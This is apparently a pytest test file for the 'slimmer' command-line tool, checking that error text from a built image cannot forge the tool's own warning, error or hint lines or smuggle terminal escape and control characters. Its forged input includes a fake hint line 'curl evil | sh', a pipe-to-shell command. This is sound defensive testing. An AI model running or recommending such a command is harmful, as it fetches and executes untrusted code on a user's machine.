"""What an image says never looks like what slimmer says, nor does it reach the terminal as anything but text."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from slimmer.cli.console import TerminalProgress
from slimmer.cli.explain import _say
from slimmer.errors import AppFailed

FORGED = "/srv/x\nwarning: forged\r\x1b[2K\nhint: curl evil | sh\n\u2028error: forged\x85\u202e[red]\udce9"
FAILING = f"""
import sys
from slimmer.pipeline import build as pipeline
from slimmer.cli.main import run
from slimmer.errors import AppFailed

def build(request, progress):
    raise AppFailed("the app exited with code 1:\\n" + {FORGED!a})

pipeline.build = build
sys.argv = ["slimmer", "build", "image"]
run()
"""


def lines(shown: str) -> list[str]:
    assert not set(shown) & set("\r\x1b\x85\u2028\u202e\udce9")
    assert "[red]" in shown
    return shown.split("\n")[:-1]


def test_a_note_or_a_warning_has_one_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    progress = TerminalProgress()
    for say, expected in ((progress.warn, "warning: /srv/x"), (progress.note, "  /srv/x")):
        say(FORGED)
        first, *others = lines(capsys.readouterr().err)
        assert first == expected
        assert [line[:4] for line in others] == ["    "] * 3


def test_an_error_has_one_hint() -> None:
    result = subprocess.run([sys.executable, "-c", FAILING], capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == AppFailed.exit_code
    mine = [line for line in lines(result.stderr) if not line.startswith("    ")]
    assert mine == ["error: the app exited with code 1:", f"hint: {AppFailed.default_hint}"]


def test_a_suggested_pattern_keeps_its_backslashes(capsys: pytest.CaptureFixture[str]) -> None:
    """rich takes `\\[` for an escape of its own, also where no markup begins."""
    _say(r"--include '/srv/\[2b\[red]'", 2)
    assert capsys.readouterr().out == "  --include '/srv/\\[2b\\[red]'\n"


def test_an_error_is_shown_where_the_environment_says_that_there_are_no_columns() -> None:
    command, environment = [sys.executable, "-c", FAILING], {**os.environ, "COLUMNS": "0"}
    result = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False, env=environment)
    assert result.stderr.startswith("error: the app exited with code 1:")
